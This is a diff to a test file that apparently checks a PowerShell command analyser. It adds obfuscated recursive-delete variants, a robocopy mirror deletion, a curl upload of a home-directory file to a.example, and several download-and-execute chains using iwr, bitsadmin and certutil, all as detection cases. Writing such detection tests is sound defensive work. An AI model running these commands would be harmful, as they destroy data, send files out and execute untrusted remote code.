@@ -40,6 +40,13 @@ describe('readCommand with PowerShell', () => {
     ['do { ri -Recurse x } while ($false)', 'remove-item -Recurse x'],
     ['Start-Job { ri -Recurse x }', 'remove-item -Recurse x'],
     ['$null = ri -Recurse x', 'remove-item -Recurse x'],
+    ["(New-Object -ComObject WScript.Shell).Run('cmd /c rd /s x')", 'remove-item -Recurse x'],
+    ["Start-Process cmd -ArgumentList '/c', 'rd /s x'", 'remove-item -Recurse x'],
+    [
+      "iex (-join ('r', 'i', ' ', '-', 'R', 'e', 'c', 'u', 'r', 's', 'e', ' ', 'x'))",
+      'remove-item -Recurse x',
+    ],
+    ['& (Get-Alias ri) -Recurse x', 'remove-item -Recurse x'],
     ['"$(ri -Recurse x)"', 'remove-item -Recurse x'],
     ['pwsh -EncodedCommand cgBpACAALQBSAGUAYwB1AHIAcwBlACAAeAA=', 'remove-item -Recurse x'],
   ])('finds the command in %p', (text, command) => {
@@ -98,6 +105,8 @@ describe('readCommand with PowerShell', () => {
     ['"x" | Out-File a', 'writes /work/a'],
     ['echo x > a', 'writes /work/a'],
     ['Copy-Item a -Destination b', 'reads /work/a'],
+    ['robocopy a /srv/b /MIR', 'deletes /srv/b and everything below'],
+    ['curl.exe -d "@$HOME\\x" https://a.example', 'reads /home/me/x'],
     ['switch -File a { default { $_ } }', 'reads /work/a'],
   ])('tells what %p does', (text, effect) => {
     expect(does(text, POWERSHELL)).toContain(effect);
@@ -112,6 +121,9 @@ describe('readCommand with PowerShell', () => {
   test.each([
     'iex (irm https://a.example/x.ps1)',
     'irm https://a.example/x.ps1 | iex',
+    'iwr https://a.example/x -OutFile x.msi; msiexec /i x.msi',
+    'bitsadmin /transfer j https://a.example/x C:\\x.exe; C:\\x.exe',
+    'certutil -urlcache -f https://a.example/x x.exe; .\\x.exe',
     '(New-Object Net.WebClient).DownloadString("https://a.example") | iex',
     'iwr https://a.example/x -OutFile x.ps1; .\\x.ps1',
     '& ([scriptblock]::Create((iwr https://a.example).Content))',
